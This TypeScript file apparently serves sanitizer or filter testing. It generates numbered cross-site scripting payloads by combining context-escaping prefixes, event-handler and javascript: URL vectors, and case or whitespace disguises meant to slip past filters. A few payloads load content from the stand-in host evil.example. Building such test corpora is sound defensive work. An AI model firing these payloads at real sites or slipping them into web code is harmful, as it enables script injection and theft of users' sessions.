/** Sets a mark on the window that a test looks for, and an element with `data-owned`. */
const ACT = 'window.owned=1';

/** Each breaks out of one place of a page: text, attribute, address, script, style, comment or template. */
const FRAMES: readonly ((inside: string) => string)[] = [
  (inside) => inside,
  (inside) => `">${inside}`,
  (inside) => `'>${inside}`,
  (inside) => `</textarea>${inside}`,
  (inside) => `</title>${inside}`,
  (inside) => `</script>${inside}`,
  (inside) => `</style>${inside}`,
  (inside) => `-->${inside}`,
  (inside) => `]]>${inside}`,
  (inside) => `<svg><style>${inside}</style></svg>`,
  (inside) => `<math><mtext><table><mglyph><style><!--</style>${inside}`,
  (inside) => `<noscript><p title="</noscript>${inside}">`,
  (inside) => `<template>${inside}</template>`,
  (inside) => `<details open ontoggle=${ACT}>${inside}</details>`,
];
const ACTS: readonly string[] = [
  `<script data-owned>${ACT}</script>`,
  `<img data-owned src=x onerror=${ACT}>`,
  `<svg data-owned onload=${ACT}>`,
  `<body data-owned onpageshow=${ACT}>`,
  `<iframe data-owned srcdoc="<script>parent.owned=1</script>">`,
  `<iframe data-owned src="javascript:parent.owned=1">`,
  `<a data-owned href="javascript:${ACT}" autofocus onfocus=${ACT}>x</a>`,
  `<input data-owned autofocus onfocus=${ACT}>`,
  `<video data-owned><source onerror=${ACT}></video>`,
  `<object data-owned data="data:text/html,<script>parent.owned=1</script>"></object>`,
  `<form data-owned action="javascript:${ACT}"><button>x</button></form>`,
  `<meta data-owned http-equiv="refresh" content="0;url=javascript:${ACT}">`,
  `<base data-owned href="//evil.example/">`,
  `<link data-owned rel=stylesheet href="data:text/css,*{background:url(//evil.example)}">`,
  `<style data-owned>@import "//evil.example";*{x:expression(${ACT})}</style>`,
  `<marquee data-owned onstart=${ACT}>x</marquee>`,
  `<svg data-owned><animate onbegin=${ACT} attributeName=x dur=1s></svg>`,
  `<svg data-owned><set onbegin=${ACT} attributeName=x></svg>`,
  `<embed data-owned src="javascript:${ACT}">`,
  `<button data-owned popovertarget=x>x</button><p popover id=x onbeforetoggle=${ACT}>x`,
];
/** Ways to hide the angle brackets from a filter. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (text) => text.replaceAll('=', ' = ').replaceAll('<img', '<\timg/'),
];

/** Different payloads, each with its number in front; the same ones for the same count. */
export function xssPayloads(count: number): string[] {
  const all = DISGUISES.flatMap((disguise) => FRAMES.flatMap((frame) => ACTS.map((act) => disguise(frame(act)))));
  const different = [...new Set(all)];
  if (different.length < count) throw new Error(`only ${different.length} payloads`);
  // Evenly, so that a slice has all frames and acts.
  return Array.from({ length: count }, (_, index) => {
    const payload = different[Math.floor((index * different.length) / count)] ?? '';
    return `${index} ${payload}`;
  });
}
